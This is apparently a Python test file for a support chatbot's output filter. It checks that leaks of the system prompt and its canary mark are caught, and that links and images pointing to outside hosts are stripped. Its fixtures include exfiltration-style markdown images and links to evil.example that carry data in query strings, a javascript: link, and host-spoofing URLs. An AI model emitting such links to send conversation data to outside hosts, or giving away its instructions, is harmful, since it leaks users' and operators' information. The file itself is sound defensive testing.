"""What of a model's words may be said: not the instructions, not their mark, no picture, no address of others."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot import saying
from bot.models import prompts

ROOT = Path(__file__).resolve().parents[2]
OURS = prompts.marked(prompts.read(ROOT / "config" / "prompts", "plan"), b"a key of the tests")
ORIGINS = {"https://acme.example", "http://127.0.0.1:8080"}


@pytest.mark.parametrize(
    "text",
    [
        OURS.text,
        OURS.mark,
        f"The secret is {OURS.mark.upper()}!",
        "-".join(OURS.mark),
        " ".join(reversed(OURS.mark)),
        "Sure: YOU are the first point, of contact; of a company's customer support. You",
        "\n".join(OURS.text.split()[40:52]),
    ],
)
def test_the_instructions_are_not_given_away(text: str) -> None:
    """In any part of some length, in another case or spacing; and their mark not even backwards."""
    assert saying.gives_away(text, OURS.text, OURS.mark)


@pytest.mark.parametrize(
    "text",
    ["", "Invoice 18492 is paid: 49.00 USD.", "A function that fits what the customer wants: invoices, refunds."],
)
def test_other_words_may_be_said(text: str) -> None:
    """Some words in common are no quotation."""
    assert not saying.gives_away(text, OURS.text, OURS.mark)


def test_the_mark_stays_the_same_for_the_same_text_and_key() -> None:
    """So that a provider's cache holds over restarts; another deployment has another one."""
    bare = prompts.read(ROOT / "config" / "prompts", "plan")
    assert OURS == prompts.marked(bare, b"a key of the tests")
    assert OURS.mark != prompts.marked(bare, b"another key").mark
    assert OURS.version == bare.version


@pytest.mark.parametrize(
    "text,said",
    [
        ("![x](https://evil.example/?d=49.00)", "x"),
        ("![x][r]\n\n[r]: https://evil.example/?d=49.00", "x\n\n"),
        ("[click](https://evil.example/)", "click"),
        ("[click](javascript:alert(1))", "click"),
        ("[click](https://acme.example@evil.example/)", "click"),
        ("[click](https://acme.example.evil.example/)", "click"),
        ("go to https://evil.example/?d=49.00 now", f"go to {saying.GONE} now"),
        ("<HTTPS://EVIL.EXAMPLE>", saying.GONE),
        ("www.evil.example", saying.GONE),
        ("evil.example/?d=49.00", saying.GONE),
        ("49-00.d.evil.example", saying.GONE),
        ("data:text/html,x", saying.GONE),
    ],
)
def test_no_way_out_of_the_house(text: str, said: str) -> None:
    """Pictures and other people's addresses are taken out; a link's words stay."""
    assert said == saying.without_links(text, ORIGINS)


@pytest.mark.parametrize(
    "text",
    [
        "Invoice 18492 is paid: 49.00 USD, i.e. on 1.2.2026 at 10 a.m. and/or 5/6 of it.",
        "[our terms](https://acme.example/terms?x=1) or https://acme.example/help.",
        "write to kim.berger@mail.example.com",
        "1. Yes\n2. No",
    ],
)
def test_plain_words_and_our_own_sites_stay(text: str) -> None:
    """Amounts, dates, mail addresses and links to where the chat may be stay as they are."""
    assert text == saying.without_links(text, ORIGINS)
